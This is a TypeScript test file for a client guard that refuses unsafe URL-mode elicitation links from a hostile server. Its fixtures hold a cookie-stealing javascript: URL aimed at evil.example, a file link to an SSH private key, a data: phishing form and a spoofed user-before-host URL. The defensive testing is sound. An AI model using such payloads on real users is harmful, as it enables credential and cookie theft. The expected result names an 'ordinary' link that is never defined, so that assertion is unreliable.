// A URL-mode elicitation sends the user to a page of the server's choosing, outside the guard: its link must
// be a web page (elicitation-url.ts). A hostile server's links to script, to a local file, to a data: page,
// over plain http to another machine, or with a user name before the host that the user reads as the site,
// never reach the client and are refused to the server; a link to the server's https page, and one to a
// page on this machine, are shown. Real bridge, recording server.
import { afterAll, describe, expect, it } from "vitest";
import { elicitationLink, ElicitationSessions } from "../src/index.js";

const sessions = new ElicitationSessions();
afterAll(async () => {
  await sessions.cleanup();
});

describe("a URL-mode elicitation", () => {
  it("reaches the user only when its link is a web page", async () => {
    const refused = ["script", "file", "data", "plain-http", "user-before-host"];
    const outcome = await sessions.run(
      [
        elicitationLink("script", "javascript:fetch('https://evil.example/?c='+document.cookie)"),
        elicitationLink("file", "file:///home/me/.ssh/id_ed25519"),
        elicitationLink(
          "data",
          "data:text/html,<form action=https://evil.example>Password: <input name=p></form>",
        ),
        elicitationLink("plain-http", "http://login.bank.example/"),
        elicitationLink("user-before-host", "https://login.bank.example@evil.example/"),
        elicitationLink("https", "https://auth.example.com/connect?state=xyz"),
        elicitationLink("this-machine", "http://127.0.0.1:8765/callback"),
      ],
      refused,
    );
    expect(outcome).toEqual({ shown: ["https", "this-machine", "ordinary"], refusedToServer: refused });
  });
});
